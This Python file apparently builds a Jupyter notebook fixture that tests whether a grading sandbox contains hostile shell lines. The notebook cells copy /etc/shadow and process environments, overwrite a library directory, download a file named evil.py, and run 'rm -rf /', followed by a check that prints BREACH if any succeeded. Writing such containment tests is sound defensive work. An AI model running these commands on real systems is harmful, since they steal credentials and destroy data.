"""Is a course's notebook whose shell lines read, overwrite and remove what is not its own.

class: notebook
stopped by: shell lines are functions of the worker's, behind the same walls
expects: not-passed
process: contained
builds: notebook
"""

import json

CELLS = (
    "!cp /etc/shadow /proc/1/environ /proc/1/maps .\n"
    "!mv /box/lib /content/lib\n"
    "!wget -O /box/lib/evil.py https://example.org/mnist.npz\n"
    "!curl file:///etc/shadow -o shadow\n"
    "!rm -rf / /box ~ /usr/lib/python3\n"
    "found = !ls /root /home\n",
    "import os, keras, numpy as np\n"
    "for name in ('shadow', 'environ', 'lib/grader'):\n"
    "    if os.path.exists(name) and os.path.getsize(name):\n"
    "        print('BREACH:', name)\n"
    "if os.path.exists('/box/lib/evil.py') or not os.path.isdir('/box/lib'):\n"
    "    print('BREACH: what the box is given was changed')\n",
    "model = keras.Sequential([keras.Input((28, 28)), keras.layers.Flatten(), "
    "keras.layers.Dense(10)])\n"
    "model.compile('sgd', 'mse', metrics=['accuracy'])\n"
    "model.fit(np.zeros((8, 28, 28)), np.zeros((8, 10)), verbose=0)\n",
)


def build():
    cells = [
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [], "source": cell}
        for cell in CELLS
    ]
    document = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}
    return json.dumps(document).encode()
